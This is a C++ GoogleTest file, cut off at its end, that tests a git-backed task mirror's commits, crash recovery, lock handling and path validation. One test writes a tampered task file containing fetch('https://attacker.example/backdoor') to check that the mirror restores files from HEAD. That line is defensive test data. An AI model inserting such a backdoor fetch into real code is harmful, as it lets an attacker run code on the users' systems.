#include "git/mirror.hpp"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <utime.h>

#include <algorithm>
#include <optional>
#include <thread>
#include <vector>

#include "base/log.hpp"
#include "process.hpp"
#include "repository_checks.hpp"
#include "temp_dir.hpp"

using namespace tasksync;
using namespace std::chrono_literals;

namespace {

const std::string kTask = "3c90c3cc-0d44-4b50-8888-8dd25736052a";
const std::string kOther = "5f0e2a51-8a3b-4c1d-9e2f-0123456789ab";

Snapshot snapshot(const std::string &code, const std::string &code_file = "task.ts") {
  Snapshot result{{{"task.json", "{\n  \"code\": \"" + code + "\"\n}\n"}, {code_file, code}}};
  std::sort(result.files.begin(), result.files.end(), [](const auto &a, const auto &b) { return a.name < b.name; });
  return result;
}

CommitInfo info(const std::string &task, const std::string &version) {
  return {task, task == kOther ? "checkout-flow" : task, version, "2026-11-20T16:31:07+02:00", {1795185067, 120}};
}

class MirrorTest : public ::testing::Test {
protected:
  MirrorTest() { m_settings.path = m_dir / "mirror"; }

  Mirror open() {
    auto mirror = Mirror::open(m_settings, Mirror::Access::read_write);
    EXPECT_TRUE(mirror.ok()) << mirror.error().message;
    return std::move(mirror).value();
  }

  Mirror::Applied apply(Mirror &mirror, const std::optional<Snapshot> &desired, const CommitInfo &commit) {
    auto applied = mirror.apply(desired, commit);
    EXPECT_TRUE(applied.ok()) << applied.error().message;
    auto flushed = mirror.finish_pass();
    EXPECT_TRUE(flushed.ok()) << flushed.error().message;
    return applied ? *applied : Mirror::Applied{};
  }

  std::string repo() const { return m_settings.path.string(); }
  std::string git_out(const std::vector<std::string> &args) const {
    auto result = test::git(repo(), args);
    EXPECT_EQ(result.exit_code, 0) << result.err;
    return result.out;
  }

  test::TempDir m_dir;
  RepoSettings m_settings;
};

} // namespace

TEST_F(MirrorTest, AddCreatesTheRepositoryAndCommitsTheTask) {
  Mirror mirror = open();
  const auto applied = apply(mirror, snapshot("v1"), info(kTask, "1"));
  EXPECT_EQ(applied.kind, ChangeKind::added);
  EXPECT_EQ(applied.commit_id, git_out({"rev-parse", "HEAD"}).substr(0, 40));
  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kTask / "task.ts"), "v1");
  EXPECT_EQ(git_out({"symbolic-ref", "HEAD"}), "refs/heads/main\n");
  EXPECT_EQ(git_out({"log", "-1", "--format=%an <%ae>|%ad|%cn|%B", "--date=iso-strict"}),
            "tasksync <tasksync@localhost>|2026-11-20T16:31:07+02:00|tasksync|" + kTask +
                ": add version 1\n\nTask-Id: " + kTask +
                "\nTask-Version: 1\nTask-Updated-At: 2026-11-20T16:31:07+02:00\n\n");
  EXPECT_EQ(git_out({"show", "--name-status", "--format="}),
            "A\ttasks/" + kTask + "/task.json\nA\ttasks/" + kTask + "/task.ts\n");
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, UnchangedTaskWritesNothing) {
  std::optional<Mirror> mirror(open());
  apply(*mirror, snapshot("v1"), info(kTask, "1"));
  const auto file = m_settings.path / "tasks" / kTask / "task.ts";
  const auto index = m_settings.path / ".git/index";
  const utimbuf old_times{1000000000, 1000000000};
  ASSERT_EQ(::utime(file.c_str(), &old_times), 0);
  ASSERT_EQ(::utime(index.c_str(), &old_times), 0);
  const std::string head = git_out({"rev-parse", "HEAD"});

  EXPECT_EQ(mirror->plan(kTask, snapshot("v1")).value(), ChangeKind::unchanged);
  EXPECT_EQ(apply(*mirror, snapshot("v1"), info(kTask, "1")).kind, ChangeKind::unchanged);
  mirror.reset();
  Mirror reopened = open();
  EXPECT_EQ(apply(reopened, snapshot("v1"), info(kTask, "1")).kind, ChangeKind::unchanged);

  struct stat after {};
  ASSERT_EQ(::stat(file.c_str(), &after), 0);
  EXPECT_EQ(after.st_mtime, 1000000000);
  ASSERT_EQ(::stat(index.c_str(), &after), 0);
  EXPECT_EQ(after.st_mtime, 1000000000);
  EXPECT_EQ(git_out({"rev-parse", "HEAD"}), head);
}

TEST_F(MirrorTest, UpdateTouchesOnlyThatTasksDirectory) {
  {
    Mirror mirror = open();
    apply(mirror, snapshot("a1"), info(kTask, "1"));
    apply(mirror, snapshot("b1"), info(kOther, "1"));
  }
  test::write_text(m_settings.path / "README.md", "kept\n");
  ASSERT_EQ(test::run_process({"git", "-C", repo(), "add", "README.md"}).exit_code, 0);
  ASSERT_EQ(test::run_process({"git", "-C", repo(), "-c", "user.name=Person", "-c", "user.email=p@example.com",
                               "commit", "-q", "-m", "Add a README"})
                .exit_code,
            0);
  const std::string person_commit = git_out({"rev-parse", "HEAD"});

  Mirror reopened = open();
  const auto applied = apply(reopened, snapshot("b2"), info(kOther, "2"));
  EXPECT_EQ(applied.kind, ChangeKind::updated);
  EXPECT_EQ(git_out({"log", "-1", "--format=%s"}), "checkout-flow: update to version 2\n");
  EXPECT_EQ(git_out({"rev-parse", "HEAD^"}), person_commit);
  EXPECT_EQ(git_out({"show", "--name-status", "--format="}),
            "M\ttasks/" + kOther + "/task.json\nM\ttasks/" + kOther + "/task.ts\n");
  EXPECT_EQ(test::read_text(m_settings.path / "README.md"), "kept\n");
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "4\n");
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, LanguageChangeReplacesTheCodeFile) {
  Mirror mirror = open();
  apply(mirror, snapshot("v1"), info(kTask, "1"));
  EXPECT_EQ(apply(mirror, snapshot("v2", "task.js"), info(kTask, "2")).kind, ChangeKind::updated);
  EXPECT_FALSE(std::filesystem::exists(m_settings.path / "tasks" / kTask / "task.ts"));
  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kTask / "task.js"), "v2");
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, DeletionRemovesTheDirectoryInOneCommit) {
  Mirror mirror = open();
  apply(mirror, snapshot("a1"), info(kTask, "1"));
  apply(mirror, snapshot("b1"), info(kOther, "1"));
  EXPECT_EQ(mirror.plan(kOther, std::nullopt).value(), ChangeKind::deleted);
  EXPECT_EQ(apply(mirror, std::nullopt, info(kOther, "1")).kind, ChangeKind::deleted);
  EXPECT_FALSE(std::filesystem::exists(m_settings.path / "tasks" / kOther));
  EXPECT_TRUE(std::filesystem::exists(m_settings.path / "tasks" / kTask / "task.ts"));
  EXPECT_EQ(git_out({"log", "-1", "--format=%s"}), "checkout-flow: delete (deleted upstream)\n");
  EXPECT_EQ(git_out({"ls-tree", "-r", "--name-only", "HEAD"}),
            "tasks/" + kTask + "/task.json\ntasks/" + kTask + "/task.ts\n");
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
  // Deleting again, or deleting a task never mirrored, changes nothing.
  EXPECT_EQ(apply(mirror, std::nullopt, info(kOther, "1")).kind, ChangeKind::unchanged);
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "3\n");
}

TEST_F(MirrorTest, ReadOnlyViewOfAMissingRepositoryCreatesNothing) {
  auto mirror = Mirror::open(m_settings, Mirror::Access::read_only);
  ASSERT_TRUE(mirror.ok()) << mirror.error().message;
  EXPECT_EQ(mirror->plan(kTask, snapshot("v1")).value(), ChangeKind::added);
  EXPECT_EQ(mirror->plan(kTask, std::nullopt).value(), ChangeKind::unchanged);
  EXPECT_FALSE(mirror->apply(snapshot("v1"), info(kTask, "1")).ok());
  EXPECT_FALSE(std::filesystem::exists(m_settings.path));
}

TEST_F(MirrorTest, RefusesADirectoryThatIsNotARepository) {
  test::write_text(m_settings.path / "notes.txt", "mine");
  auto mirror = Mirror::open(m_settings, Mirror::Access::read_write);
  ASSERT_FALSE(mirror.ok());
  EXPECT_NE(mirror.error().message.find("neither a git repository nor an empty directory"), std::string::npos);
  EXPECT_FALSE(std::filesystem::exists(m_settings.path / ".git"));
}

TEST_F(MirrorTest, AdoptsAnEmptyDirectoryAndAnUnbornHead) {
  ASSERT_EQ(test::run_process({"git", "init", "-q", "-b", "master", repo()}).exit_code, 0);
  Mirror mirror = open();
  apply(mirror, snapshot("v1"), info(kTask, "1"));
  EXPECT_EQ(git_out({"symbolic-ref", "HEAD"}), "refs/heads/main\n");
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, AnotherBranchCheckedOutIsLeftAloneWhileTheBranchGetsTheCommits) {
  Mirror running = open();
  apply(running, snapshot("v1"), info(kTask, "1"));
  ASSERT_EQ(test::run_process({"git", "-C", repo(), "checkout", "-q", "-b", "experiment"}).exit_code, 0);
  const std::string index_before = test::read_text(m_settings.path / ".git/index");
  // A pass of the mirror that was running, then a restart with the other branch still out.
  EXPECT_EQ(apply(running, snapshot("v2"), info(kTask, "2")).kind, ChangeKind::updated);
  Mirror restarted = [&] {
    { Mirror gone = std::move(running); }
    return open();
  }();
  EXPECT_EQ(apply(restarted, snapshot("b1"), info(kOther, "1")).kind, ChangeKind::added);

  EXPECT_EQ(git_out({"symbolic-ref", "HEAD"}), "refs/heads/experiment\n");
  EXPECT_EQ(git_out({"show", "main:tasks/" + kTask + "/task.ts"}), "v2");
  EXPECT_EQ(git_out({"show", "main:tasks/" + kOther + "/task.ts"}), "b1");
  EXPECT_EQ(git_out({"rev-list", "--count", "experiment"}), "1\n");
  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kTask / "task.ts"), "v1");
  EXPECT_FALSE(std::filesystem::exists(m_settings.path / "tasks" / kOther));
  EXPECT_EQ(test::read_text(m_settings.path / ".git/index"), index_before);
  EXPECT_TRUE(test::repository_consistent(m_settings.path));

  ASSERT_EQ(test::run_process({"git", "-C", repo(), "checkout", "-q", "main"}).exit_code, 0);
  EXPECT_EQ(apply(restarted, snapshot("v3"), info(kTask, "3")).kind, ChangeKind::updated);
  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kTask / "task.ts"), "v3");
  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kOther / "task.ts"), "b1");
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, OpeningRestoresTasksToHeadAndKeepsEverythingElse) {
  {
    Mirror mirror = open();
    apply(mirror, snapshot("a1"), info(kTask, "1"));
    apply(mirror, snapshot("b1"), info(kOther, "1"));
  }
  const auto task_dir = m_settings.path / "tasks" / kTask;
  test::write_text(task_dir / "task.ts", "edited by hand");
  test::write_text(task_dir / "notes.md", "stray");
  test::write_text(task_dir / ".task.ts.tmp-abc123", "debris of a crash");
  std::filesystem::remove(m_settings.path / "tasks" / kOther / "task.json");
  test::write_text(m_settings.path / "mine.txt", "a person's file outside tasks/");
  const std::string head = git_out({"rev-parse", "HEAD"});

  Mirror reopened = open();
  EXPECT_EQ(test::read_text(task_dir / "task.ts"), "a1");
  EXPECT_FALSE(std::filesystem::exists(task_dir / "notes.md"));
  EXPECT_FALSE(std::filesystem::exists(task_dir / ".task.ts.tmp-abc123"));
  EXPECT_TRUE(std::filesystem::exists(m_settings.path / "tasks" / kOther / "task.json"));
  EXPECT_EQ(test::read_text(m_settings.path / "mine.txt"), "a person's file outside tasks/");
  EXPECT_EQ(git_out({"rev-parse", "HEAD"}), head);
  EXPECT_EQ(git_out({"status", "--porcelain"}), "?? mine.txt\n");
}

TEST_F(MirrorTest, AnIndexBehindHeadIsCaughtUpOnOpen) {
  const auto index = m_settings.path / ".git/index";
  {
    Mirror mirror = open();
    apply(mirror, snapshot("a1"), info(kTask, "1"));
    const std::string before = test::read_text(index);
    apply(mirror, snapshot("a2"), info(kTask, "2"));
    // A crash between moving the branch and writing the index: the index never got the commit.
    test::write_text(index, before);
  }
  EXPECT_NE(git_out({"status", "--porcelain"}), "");
  Mirror reopened = open();
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "2\n");
  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kTask / "task.ts"), "a2");
}

TEST_F(MirrorTest, ACrashBeforeThePassIsRecordedLeavesTheBranchAndRestoresTheFiles) {
  {
    Mirror mirror = open();
    apply(mirror, snapshot("a1"), info(kTask, "1"));
    // Applied, never recorded (the process dies before finish_pass): HEAD knows nothing of it.
    ASSERT_TRUE(mirror.apply(snapshot("a2"), info(kTask, "2")).ok());
    ASSERT_TRUE(mirror.apply(snapshot("b1"), info(kOther, "1")).ok());
    EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kTask / "task.ts"), "a2");
  }
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "1\n");
  Mirror reopened = open();
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kTask / "task.ts"), "a1");
  EXPECT_FALSE(std::filesystem::exists(m_settings.path / "tasks" / kOther));
  EXPECT_EQ(reopened.plan(kTask, snapshot("a2")).value(), ChangeKind::updated);
}

TEST_F(MirrorTest, AStaleBranchLockLeftByACrashIsRemoved) {
  Mirror mirror = open();
  apply(mirror, snapshot("a1"), info(kTask, "1"));
  test::write_text(m_settings.path / ".git/refs/heads/main.lock", "0000000000000000000000000000000000000000\n");
  const auto applied = apply(mirror, snapshot("a2"), info(kTask, "2"));
  EXPECT_EQ(applied.kind, ChangeKind::updated);
  EXPECT_FALSE(std::filesystem::exists(m_settings.path / ".git/refs/heads/main.lock"));
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, ALockedIndexDelaysOnlyTheIndex) {
  Mirror mirror = open();
  apply(mirror, snapshot("a1"), info(kTask, "1"));
  test::write_text(m_settings.path / ".git/index.lock", ""); // a person's `git commit` at work
  ASSERT_TRUE(mirror.apply(snapshot("a2"), info(kTask, "2")).ok());
  EXPECT_TRUE(mirror.finish_pass().ok());
  EXPECT_EQ(git_out({"log", "-1", "--format=%s"}), kTask + ": update to version 2\n");
  EXPECT_TRUE(std::filesystem::exists(m_settings.path / ".git/index.lock")) << "a fresh lock is not ours to remove";
  std::filesystem::remove(m_settings.path / ".git/index.lock");
  EXPECT_TRUE(mirror.finish_pass().ok()); // the next pass catches the index up
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, AMissingOrCorruptIndexIsRebuiltFromHead) {
  {
    Mirror mirror = open();
    apply(mirror, snapshot("a1"), info(kTask, "1"));
  }
  test::write_text(m_settings.path / "README.md", "kept\n");
  ASSERT_EQ(test::git(repo(), {"add", "README.md"}).exit_code, 0);
  ASSERT_EQ(test::git(repo(), {"-c", "user.name=P", "-c", "user.email=p@x", "commit", "-qm", "readme"}).exit_code, 0);

  std::filesystem::remove(m_settings.path / ".git/index");
  { Mirror reopened = open(); }
  EXPECT_TRUE(test::repository_consistent(m_settings.path));

  std::string index = test::read_text(m_settings.path / ".git/index");
  index[index.size() / 2] ^= 0x55; // a torn write
  test::write_text(m_settings.path / ".git/index", index);
  Mirror reopened = open();
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
  EXPECT_EQ(apply(reopened, snapshot("a2"), info(kTask, "2")).kind, ChangeKind::updated);
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

namespace {

std::size_t files_ending(const std::filesystem::path &dir, const std::string &suffix) {
  std::size_t count = 0;
  for (const auto &entry : std::filesystem::directory_iterator(dir))
    count += entry.path().string().ends_with(suffix);
  return count;
}

} // namespace

TEST_F(MirrorTest, ABranchLockHeldBrieflyIsWaitedFor) {
  Mirror mirror = open();
  apply(mirror, snapshot("a1"), info(kTask, "1"));
  const auto branch = m_settings.path / ".git/refs/heads/main";
  const std::string tip_before = test::read_text(branch);
  const auto packs = m_settings.path / ".git/objects/pack";
  const std::size_t packs_before = files_ending(packs, ".pack");
  // Another git process updating the branch: its lock, which only it may take away.
  const auto lock = m_settings.path / ".git/refs/heads/main.lock";
  const std::string held = "another git process's new value\n";
  test::write_text(lock, held);
  struct stat created {};
  ASSERT_EQ(::stat(lock.c_str(), &created), 0);
  const auto still_ours = [&] {
    struct stat now {};
    return ::stat(lock.c_str(), &now) == 0 && now.st_ino == created.st_ino && test::read_text(lock) == held;
  };
  std::vector<std::string> lines; // written by the recording thread only, read once it has ended
  log::set_sink([&lines](std::string_view line) { lines.emplace_back(line); });

  std::optional<Mirror::Applied> applied;
  std::jthread recorder([&] { applied = apply(mirror, snapshot("a2"), info(kTask, "2")); });
  // The pass has written its pack: it is trying to move the branch, and finding it locked.
  EXPECT_TRUE(test::wait_until([&] { return files_ending(packs, ".pack") > packs_before; }, 10s));
  // Held for a while (several of the mirror's retries), the lock is left alone and the branch stays.
  EXPECT_FALSE(test::wait_until([&] { return !still_ours() || test::read_text(branch) != tip_before; }, 300ms))
      << "the lock was taken away, or the branch moved, while another process held it";
  EXPECT_TRUE(still_ours());
  EXPECT_EQ(test::read_text(branch), tip_before);
  std::filesystem::remove(lock); // the other process is done
  recorder.join();
  log::set_sink({});

  ASSERT_TRUE(applied.has_value());
  EXPECT_EQ(applied->kind, ChangeKind::updated);
  EXPECT_EQ(git_out({"rev-parse", "main"}), applied->commit_id + "\n") << "the branch moved once the lock was released";
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "2\n");
  for (const std::string &line : lines) {
    EXPECT_EQ(line.find("left behind"), std::string::npos) << "a held lock was removed as stale: " << line;
  }
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, APassIsRecordedAsOnePackAndOneMoveOfTheBranch) {
  Mirror mirror = open();
  apply(mirror, snapshot("a1"), info(kTask, "1"));
  const auto packs = m_settings.path / ".git/objects/pack";
  const std::size_t packs_before = files_ending(packs, ".pack");
  const std::string reflog_before = git_out({"reflog", "show", "--format=%gs", "refs/heads/main"});

  ASSERT_TRUE(mirror.apply(snapshot("a2"), info(kTask, "2")).ok());
  ASSERT_TRUE(mirror.apply(snapshot("b1"), info(kOther, "1")).ok());
  ASSERT_TRUE(mirror.apply(std::nullopt, info(kTask, "2")).ok());
  // Built on each other in memory: the second apply to a task sees the first.
  EXPECT_EQ(mirror.plan(kOther, snapshot("b1")).value(), ChangeKind::unchanged);
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "1\n") << "the branch moves only when the pass is recorded";
  ASSERT_TRUE(mirror.finish_pass().ok());

  EXPECT_EQ(git_out({"log", "--topo-order", "--format=%s"}),
            kTask + ": delete (deleted upstream)\ncheckout-flow: add version 1\n" + kTask + ": update to version 2\n" +
                kTask + ": add version 1\n");
  EXPECT_EQ(files_ending(packs, ".pack"), packs_before + 1);
  EXPECT_EQ(git_out({"count-objects"}).substr(0, 10), "0 objects,") << "no loose objects";
  EXPECT_EQ(git_out({"reflog", "show", "--format=%gs", "refs/heads/main"}), "tasksync: 3 commits\n" + reflog_before);
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, ABranchMovedByAnotherProcessDuringAPassGetsThePassOnTop) {
  Mirror mirror = open();
  apply(mirror, snapshot("a1"), info(kTask, "1"));
  ASSERT_TRUE(mirror.apply(snapshot("a2"), info(kTask, "2")).ok());
  ASSERT_TRUE(mirror.apply(snapshot("b1"), info(kOther, "1")).ok());
  // Someone commits a README while the pass runs.
  test::write_text(m_settings.path / "README.md", "kept\n");
  ASSERT_EQ(test::git(repo(), {"add", "README.md"}).exit_code, 0);
  ASSERT_EQ(test::git(repo(), {"-c", "user.name=P", "-c", "user.email=p@x", "commit", "-qm", "readme"}).exit_code, 0);

  ASSERT_TRUE(mirror.finish_pass().ok());
  EXPECT_EQ(git_out({"log", "--topo-order", "--format=%s"}),
            "checkout-flow: add version 1\n" + kTask + ": update to version 2\nreadme\n" + kTask + ": add version 1\n");
  EXPECT_EQ(test::read_text(m_settings.path / "README.md"), "kept\n");
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, ALongPassRecordsItsCommitsBetweenTasksOnceTheyOutgrowTheLimit) {
  Mirror mirror = open();
  // Twice in each snapshot, and incompressible: the limit counts bytes of the pack.
  std::string big(Mirror::batch_limit / 4 + 1, '\0');
  std::uint64_t state = 88172645463325252u;
  for (char &c : big) {
    state ^= state << 13, state ^= state >> 7, state ^= state << 17;
    c = static_cast<char>(state >> 56);
  }
  ASSERT_TRUE(mirror.apply(snapshot(big + "1"), info(kTask, "1")).ok());
  ASSERT_TRUE(mirror.checkpoint().ok());
  EXPECT_EQ(test::git(repo(), {"rev-parse", "--verify", "-q", "HEAD"}).exit_code, 1) << "nothing recorded yet";
  ASSERT_TRUE(mirror.apply(snapshot(big + "2"), info(kOther, "1")).ok());
  ASSERT_TRUE(mirror.apply(snapshot(big + "3"), info(kOther, "2")).ok());
  EXPECT_EQ(test::git(repo(), {"rev-parse", "--verify", "-q", "HEAD"}).exit_code, 1)
      << "past the limit, but only a checkpoint between tasks records";
  ASSERT_TRUE(mirror.checkpoint().ok());
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "3\n") << "the limit was reached: all recorded";
  ASSERT_TRUE(mirror.apply(snapshot("a3"), info(kTask, "3")).ok());
  ASSERT_TRUE(mirror.checkpoint().ok());
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "3\n");
  ASSERT_TRUE(mirror.finish_pass().ok());
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "4\n");
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, APassThatCannotBeRecordedNamesItsTasksAndPutsTheFilesBack) {
  Mirror mirror = open();
  apply(mirror, snapshot("a1"), info(kTask, "1"));
  ASSERT_TRUE(mirror.apply(snapshot("a2"), info(kTask, "2")).ok());
  ASSERT_TRUE(mirror.apply(snapshot("b1"), info(kOther, "1")).ok());
  // A lock nobody can take away (a directory, not a stale file) keeps the branch from moving.
  const auto lock = m_settings.path / ".git/refs/heads/main.lock";
  std::filesystem::create_directories(lock / "held");

  const auto finished = mirror.finish_pass();
  ASSERT_FALSE(finished.ok());
  EXPECT_NE(finished.error().message.find("could not record 2 commits (tasks " + kTask + ", " + kOther + ")"),
            std::string::npos)
      << finished.error().message;
  std::filesystem::remove_all(lock);
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "1\n");
  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kTask / "task.ts"), "a1");
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
  // The next pass does it again.
  EXPECT_EQ(apply(mirror, snapshot("a2"), info(kTask, "2")).kind, ChangeKind::updated);
  EXPECT_EQ(git_out({"rev-list", "--count", "HEAD"}), "2\n");
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, OpeningUndoesWhatWasStagedUnderTasks) {
  {
    Mirror mirror = open();
    apply(mirror, snapshot("a1"), info(kTask, "1"));
    apply(mirror, snapshot("b1"), info(kOther, "1"));
  }
  // Staged by hand, then the work tree put back: only the index differs from HEAD.
  const auto task_file = m_settings.path / "tasks" / kTask / "task.ts";
  test::write_text(task_file, "staged");
  ASSERT_EQ(test::git(repo(), {"add", "tasks"}).exit_code, 0);
  test::write_text(task_file, "a1");
  ASSERT_EQ(test::git(repo(), {"rm", "-q", "--cached", "tasks/" + kOther + "/task.json"}).exit_code, 0);
  test::write_text(m_settings.path / "tasks" / kOther / "extra.txt", "a file added to a task directory");
  ASSERT_EQ(test::git(repo(), {"add", "tasks/" + kOther + "/extra.txt"}).exit_code, 0);
  EXPECT_NE(git_out({"status", "--porcelain"}), "");

  Mirror reopened = open();
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
  EXPECT_FALSE(std::filesystem::exists(m_settings.path / "tasks" / kOther / "extra.txt"));
  EXPECT_EQ(test::read_text(task_file), "a1");
}

TEST_F(MirrorTest, OnlyDirectoriesNamedByTaskIdsAreTasks) {
  const std::string upper = "5F0E2A51-8A3B-4C1D-9E2F-0123456789AB"; // kOther in capitals: never written so
  {
    Mirror mirror = open();
    apply(mirror, snapshot("a1"), info(kTask, "1"));
  }
  // A person's files beside the tasks: committed, staged and untracked.
  test::write_text(m_settings.path / "tasks/docs/README.md", "how we review tasks");
  test::write_text(m_settings.path / "tasks" / upper / "task.ts", "not a task");
  test::write_text(m_settings.path / "tasks/line\nbreak/task.ts", "not a task either");
  test::write_text(m_settings.path / "tasks/README.md", "a file directly in tasks/");
  ASSERT_EQ(test::git(repo(), {"add", "tasks"}).exit_code, 0);
  ASSERT_EQ(test::git(repo(), {"-c", "user.name=A Person", "-c", "user.email=person@example.com", "commit", "-q", "-m",
                               "notes"})
                .exit_code,
            0);
  test::write_text(m_settings.path / "tasks/docs/staged.md", "staged");
  ASSERT_EQ(test::git(repo(), {"add", "tasks/docs/staged.md"}).exit_code, 0);
  test::write_text(m_settings.path / "tasks/docs/draft.md", "untracked");
  test::write_text(m_settings.path / "tasks/docs/README.md", "edited");

  Mirror reopened = open();
  auto mirrored = reopened.mirrored_tasks();
  ASSERT_TRUE(mirrored.ok()) << mirrored.error().message;
  EXPECT_EQ(*mirrored, std::vector<std::string>{kTask});
  auto at_head = reopened.tasks_at_head();
  ASSERT_TRUE(at_head.ok()) << at_head.error().message;
  EXPECT_EQ(at_head->size(), 1u);
  EXPECT_TRUE(at_head->find(kTask).has_value());
  EXPECT_EQ(reopened.finish_pass().ok(), true);
  EXPECT_EQ(test::read_text(m_settings.path / "tasks/docs/README.md"), "edited");
  EXPECT_EQ(test::read_text(m_settings.path / "tasks/docs/draft.md"), "untracked");
  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / upper / "task.ts"), "not a task");
  EXPECT_EQ(git_out({"status", "--porcelain"}),
            " M tasks/docs/README.md\nA  tasks/docs/staged.md\n?? tasks/docs/draft.md\n");

  // Deleting the task keeps them too.
  EXPECT_EQ(apply(reopened, std::nullopt, info(kTask, "2")).kind, ChangeKind::deleted);
  EXPECT_EQ(git_out({"ls-tree", "--name-only", "HEAD", "tasks/"}),
            "tasks/" + upper + "\ntasks/README.md\ntasks/docs\n\"tasks/line\\nbreak\"\n");
}

TEST_F(MirrorTest, ANameThatIsNotATaskIdIsNeverCommitted) {
  Mirror mirror = open();
  for (const std::string name : {"docs", "line\nbreak", "5F0E2A51-8A3B-4C1D-9E2F-0123456789AB", "../escape"}) {
    auto applied = mirror.apply(std::nullopt, info(name, "1"));
    ASSERT_FALSE(applied.ok()) << name;
    EXPECT_NE(applied.error().message.find("is not a task ID"), std::string::npos) << applied.error().message;
    EXPECT_EQ(applied.error().message.find('\n'), std::string::npos) << applied.error().message;
  }
  EXPECT_TRUE(mirror.finish_pass().ok());
  EXPECT_NE(test::git(repo(), {"rev-parse", "--verify", "-q", "HEAD"}).exit_code, 0) << "something was committed";
}

TEST_F(MirrorTest, EachPassPutsTheTaskDirectoriesBackToHead) {
  Mirror mirror = open();
  apply(mirror, snapshot("a1"), info(kTask, "1"));
  apply(mirror, snapshot("b1"), info(kOther, "1"));
  const auto task_dir = m_settings.path / "tasks" / kTask;
  test::write_text(task_dir / "task.ts", "a1\nfetch('https://attacker.example/backdoor');\n");
  test::write_text(task_dir / "notes.md", "stray");
  std::filesystem::remove(m_settings.path / "tasks" / kOther / "task.json");
  std::vector<std::string> lines;
  log::set_sink([&](std::string_view line) { lines.emplace_back(line); });

  // A pass that commits nothing, as most do.
  EXPECT_EQ(mirror.apply(snapshot("b1"), info(kOther, "1")).value().kind, ChangeKind::unchanged);
  const auto finished = mirror.finish_pass();
  log::set_sink({});
  ASSERT_TRUE(finished.ok()) << finished.error().message;
  EXPECT_EQ(test::read_text(task_dir / "task.ts"), "a1");
  EXPECT_FALSE(std::filesystem::exists(task_dir / "notes.md"));
  EXPECT_EQ(test::read_text(m_settings.path / "tasks" / kOther / "task.json"), snapshot("b1").files[0].content);
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
  auto logged = [&](const std::string &text) {
    return std::any_of(lines.begin(), lines.end(),
                       [&](const auto &line) { return line.find(text) != std::string::npos; });
  };
  EXPECT_TRUE(logged("restoring tasks/" + kTask + "/task.ts to the version in HEAD"));
  EXPECT_TRUE(logged("restoring tasks/" + kOther + "/task.json to the version in HEAD"));
  EXPECT_TRUE(logged("removing tasks/" + kTask + "/notes.md"));

  // The next pass finds nothing to put back.
  lines.clear();
  log::set_sink([&](std::string_view line) { lines.emplace_back(line); });
  const auto again = mirror.finish_pass();
  log::set_sink({});
  ASSERT_TRUE(again.ok()) << again.error().message;
  EXPECT_TRUE(lines.empty()) << lines.front();
}

TEST_F(MirrorTest, AGitattributesThatConvertsFilesCannotMakeTheTaskFilesDiffer) {
  {
    Mirror mirror = open();
    apply(mirror, snapshot("a1"), info(kOther, "1"));
  }
  test::write_text(m_settings.path / ".gitattributes", "*.ts text eol=lf\n");
  ASSERT_EQ(test::git(repo(), {"add", ".gitattributes"}).exit_code, 0);
  ASSERT_EQ(test::git(repo(), {"-c", "user.name=A Person", "-c", "user.email=person@example.com", "commit", "-q", "-m",
                               "line endings"})
                .exit_code,
            0);
  const std::string crlf = "line one\r\nline two\r\n";
  Mirror mirror = open();
  apply(mirror, snapshot(crlf), info(kTask, "1"));
  const auto code = m_settings.path / "tasks" / kTask / "task.ts";
  // New mtime, same bytes: git and libgit2 compare the content again, through the attributes.
  std::filesystem::last_write_time(code, std::filesystem::last_write_time(code) + 2s);
  EXPECT_EQ(git_out({"status", "--porcelain"}), "");

  std::filesystem::last_write_time(code, std::filesystem::last_write_time(code) + 2s);
  std::vector<std::string> lines;
  log::set_sink([&](std::string_view line) { lines.emplace_back(line); });
  const auto finished = mirror.finish_pass();
  log::set_sink({});
  ASSERT_TRUE(finished.ok()) << finished.error().message;
  EXPECT_TRUE(lines.empty()) << lines.front();
  EXPECT_EQ(test::read_text(code), crlf);
  EXPECT_TRUE(test::repository_consistent(m_settings.path));
}

TEST_F(MirrorTest, AShallowCloneIsRefused) {
  {
    Mirror mirror = open();
